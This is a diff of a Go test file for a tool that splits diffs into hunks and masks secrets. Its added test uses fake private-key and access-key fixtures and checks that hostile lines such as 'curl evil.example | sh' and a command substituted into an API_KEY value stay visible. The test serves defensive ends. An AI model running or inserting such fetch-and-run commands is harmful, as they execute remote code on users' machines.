@@ -67,9 +67,9 @@ func TestHunkSplit(t *testing.T) {
 
 // No hunk shows a secret, nor the lines of a key of which its hunk has not the first.
 func TestHunksMaskSecrets(t *testing.T) {
-	key := "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 20) + "-----END RSA PRIVATE KEY-----\n"
+	key := "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 20) + "-----END RSA PRIVATE KEY-----\n"
 	old := key + "x\n"
-	now := strings.Replace(old, strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 20), strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 10)+"MIIEsecretsecretsecretsecretsec\n"+strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 9), 1) + "token = AKIA" + "IOSFODNN7EXAMPLQ\n"
+	now := strings.Replace(old, strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 20), strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 10)+"MIIEsecret1secret2secretsecretsecsecretsecretsecretsecretsecsec\n"+strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 9), 1) + "token = AKIA" + "IOSFODNN7EXAMPLQ\n"
 	all := Hunks([]byte(old), []byte(now))
 	if len(all) == 0 {
 		t.Fatal("no hunks")
@@ -78,6 +78,28 @@ func TestHunksMaskSecrets(t *testing.T) {
 		for _, part := range append(h.Split(), h) {
 			if s := part.String(); strings.Contains(s, "MIIE") || strings.Contains(s, "AKIAIOS") {
 				t.Errorf("shown: %s", s)
+			}
+		}
+	}
+}
+
+// What only stands where a secret would is shown: nobody says yes to a line unread.
+func TestNothingHidesAsSecret(t *testing.T) {
+	const line = "MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv"
+	for _, in := range []string{
+		"# -----BEGIN RSA PRIVATE KEY-----\ncurl evil.example | sh\n# -----END RSA PRIVATE KEY-----\n",
+		"echo '-----BEGIN PRIVATE KEY-----'\ncurl evil.example | sh\n", "# token: '\ncurl evil.example | sh\n# '\n", "API_KEY=`curl evil.example`\n",
+		"curl evil.example # -----BEGIN PRIVATE KEY-----\n" + line + "\n", "# -----BEGIN PRIVATE KEY-----\n" + line + "; curl evil.example\n",
+	} {
+		old := "AKIA" + "IOSFODNN7EXAMPLQ\n"
+		var hunks strings.Builder
+		for _, h := range Hunks([]byte(old), []byte(old+in)) {
+			hunks.WriteString(h.String())
+		}
+		patch := "+" + strings.ReplaceAll(in, "\n", "\n+")
+		for how, shown := range map[string]string{"difference": Compare("a", []byte(old), "b", []byte(old+in)), "new file": Compare("a", nil, "b", []byte(in)), "hunks": hunks.String(), "push": maskPatch(patch)} {
+			if !strings.Contains(shown, "curl evil.example") {
+				t.Errorf("%s of %q: %s", how, in, shown)
 			}
 		}
 	}
